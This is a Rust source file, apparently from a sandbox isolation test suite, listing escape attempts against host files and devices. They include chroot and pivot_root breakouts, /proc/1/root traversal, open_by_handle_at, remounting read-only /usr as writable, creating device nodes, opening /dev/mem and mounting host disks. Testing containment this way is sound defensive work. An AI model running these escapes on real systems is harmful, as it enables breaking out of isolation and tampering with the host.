//! Files and devices of the host.

use super::*;

/// Returns the attempts against files and devices.
pub fn attempts() -> Vec<Attempt> {
    vec![
        // Files of the host.
        ("read a secret by its path", OwnRoot, |host| {
            reads_secret(&host.secret, host)
        }),
        ("read it through /proc/1/root", OwnRoot, |host| {
            let inside = host.secret.strip_prefix("/").unwrap_or(&host.secret);
            reads_secret(&Path::new("/proc/1/root").join(inside), host)
        }),
        ("read it through /proc/1/cwd", OwnRoot, |host| {
            let up = "/proc/1/cwd/../../../../../..".to_owned() + &host.secret.to_string_lossy();
            reads_secret(Path::new(&up), host)
        }),
        ("leave a chroot", OwnRoot, |host| {
            let at = place()?;
            let keep = File::open("/").map_err(io)?;
            chroot(&at).map_err(io)?;
            nix::unistd::fchdir(&keep).map_err(said)?;
            for _ in 0..64 {
                chdir("..").map_err(said)?;
            }
            chroot(".").map_err(io)?;
            reads_secret(&host.secret, host)
        }),
        ("find an open directory outside", Kernel, |_| {
            for entry in fs::read_dir("/proc/self/fd").map_err(io)?.flatten() {
                let number: i32 = entry.file_name().to_string_lossy().parse().unwrap_or(-1);
                let path = fs::read_link(entry.path()).unwrap_or_default();
                if number > 2 && path.is_dir() && !path.starts_with("/proc") {
                    return Ok(format!("{number} is {}", path.display()));
                }
            }
            Err("none is open".to_owned())
        }),
        ("open the root's parent by handle", Kernel, |_| {
            let handle: [u32; 4] = [8, 1, 2, 0];
            let root = File::open("/").map_err(io)?;
            let root = root.as_raw_fd() as usize;
            let opened = call(
                libc::SYS_open_by_handle_at,
                [root, address(&handle), 0, 0, 0],
            )?;
            Ok(format!("opened {opened}"))
        }),
        ("uncover what a mount covers", OwnRoot, |host| {
            own_mounts()?;
            let mut gone = Err("nothing could be taken away".to_owned());
            for at in [
                "/etc",
                "/usr",
                "/root",
                "/var",
                "/proc/sys",
                "/dev",
                "/sys",
                "/proc",
            ] {
                match umount2(at, MntFlags::MNT_DETACH) {
                    Ok(()) if reads_secret(&host.secret, host).is_ok() => return Ok(at.to_owned()),
                    Ok(()) => gone = Err(format!("nothing was below {at}")),
                    Err(error) => gone = gone.or(Err(said(error))),
                }
            }
            gone
        }),
        ("change the root with pivot_root", OwnRoot, |host| {
            own_mounts()?;
            let at = mounts("tmpfs", None)?;
            let old = at.join("old");
            fs::create_dir(&old).map_err(io)?;
            nix::unistd::pivot_root(&at, &old).map_err(said)?;
            let inside = host.secret.strip_prefix("/").unwrap_or(&host.secret);
            reads_secret(&Path::new("/old/..").join(inside), host)
        }),
        // Read-only files.
        ("write to /usr", All, |_| touches("/usr/t-attack")),
        ("make /usr writable by a remount", All, |_| {
            remounted(MsFlags::MS_BIND, "/usr").or_else(|_| remounted(MsFlags::MS_BIND, "/"))?;
            touches("/usr/t-attack")
        }),
        ("make its filesystem writable", All, |_| {
            remounted(MsFlags::empty(), "/usr").or_else(|_| remounted(MsFlags::empty(), "/"))?;
            touches("/usr/t-attack")
        }),
        ("the same in mounts of its own", All, |_| {
            own_mounts()?;
            remounted(MsFlags::MS_BIND, "/usr")?;
            touches("/usr/t-attack")
        }),
        ("the same with mount_setattr", All, |_| {
            clears_read_only(HERE, &text("/usr"), 0)
                .or_else(|_| clears_read_only(HERE, &text("/"), 0))?;
            touches("/usr/t-attack")
        }),
        ("make a copy of the mount writable", All, |_| {
            let usr = text("/usr");
            let clone = libc::OPEN_TREE_CLONE as usize;
            let tree = call(
                libc::SYS_open_tree,
                [HERE, usr.as_ptr() as usize, clone, 0, 0],
            )?;
            clears_read_only(tree as usize, &text(""), libc::AT_EMPTY_PATH as usize)?;
            touches(&format!("/proc/self/fd/{tree}/t-attack"))
        }),
        ("bind /usr elsewhere, writable", All, |_| {
            let at = place()?;
            let none = None::<&str>;
            mount(Some("/usr"), &at, none, MsFlags::MS_BIND, none).map_err(said)?;
            touches(&at.join("t-attack").to_string_lossy())
        }),
        ("reconfigure the filesystem with fspick", All, |_| {
            let usr = text("/usr");
            let picked = call(libc::SYS_fspick, [HERE, usr.as_ptr() as usize, 0, 0, 0])? as usize;
            let flag = text("rw");
            // FSCONFIG_SET_FLAG and FSCONFIG_CMD_RECONFIGURE
            call(
                libc::SYS_fsconfig,
                [picked, 0, flag.as_ptr() as usize, 0, 0],
            )?;
            call(libc::SYS_fsconfig, [picked, 7, 0, 0, 0])?;
            touches("/usr/t-attack")
        }),
        ("write through a program that runs", All, |_| {
            let file = OpenOptions::new()
                .write(true)
                .open("/proc/1/exe")
                .map_err(io)?;
            Ok(format!("opened {file:?}"))
        }),
        // Devices.
        ("make a disk's node in /tmp", Kernel, |_| {
            node(
                nix::sys::stat::SFlag::S_IFBLK,
                disk()?,
                &std::env::temp_dir(),
            )
        }),
        ("make one in its tree", Kernel, |_| {
            node(
                nix::sys::stat::SFlag::S_IFBLK,
                disk()?,
                Path::new("/var/tmp"),
            )
        }),
        ("make one in a filesystem of its own", Kernel, |_| {
            let at = mounts("tmpfs", None)?;
            node(nix::sys::stat::SFlag::S_IFBLK, disk()?, &at)
        }),
        ("make the node of the memory", Kernel, |_| {
            node(
                nix::sys::stat::SFlag::S_IFCHR,
                (1, 1),
                &std::env::temp_dir(),
            )
        }),
        ("open memory, ports, the log", Kernel, |_| {
            let nodes = [
                "/dev/mem",
                "/dev/kmem",
                "/dev/port",
                "/dev/kmsg",
                "/dev/nvram",
            ];
            let open = nodes.iter().find(|path| File::open(path).is_ok());
            open.map(ToString::to_string)
                .ok_or_else(|| "none opens".to_owned())
        }),
        ("open any block device", Kernel, |_| {
            let entries = fs::read_dir("/dev").map_err(io)?.flatten();
            let is_block = |path: &PathBuf| {
                fs::metadata(path).is_ok_and(|it| it.file_type().is_block_device())
            };
            let mut found = entries.map(|entry| entry.path()).filter(is_block);
            let open = found.find(|path| File::open(path).is_ok());
            open.map(|path| path.display().to_string())
                .ok_or_else(|| "there is none".to_owned())
        }),
        ("make a loop device", Kernel, |_| {
            let file = OpenOptions::new()
                .read(true)
                .write(true)
                .open("/dev/loop-control")
                .map_err(io)?;
            call(
                libc::SYS_ioctl,
                [file.as_raw_fd() as usize, 0x4c82, 0, 0, 0],
            )
            .map(|_| "made one".to_owned())
        }),
        ("mount a disk", Kernel, |_| {
            let at = place()?;
            let all = ["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/root"];
            let none = None::<&str>;
            let tried =
                all.map(|disk| mount(Some(disk), &at, Some("ext4"), MsFlags::MS_RDONLY, none));
            match tried.iter().any(Result::is_ok) {
                true => Ok("mounted one".to_owned()),
                false => Err(tried[0].err().map_or_else(String::new, said)),
            }
        }),
    ]
}
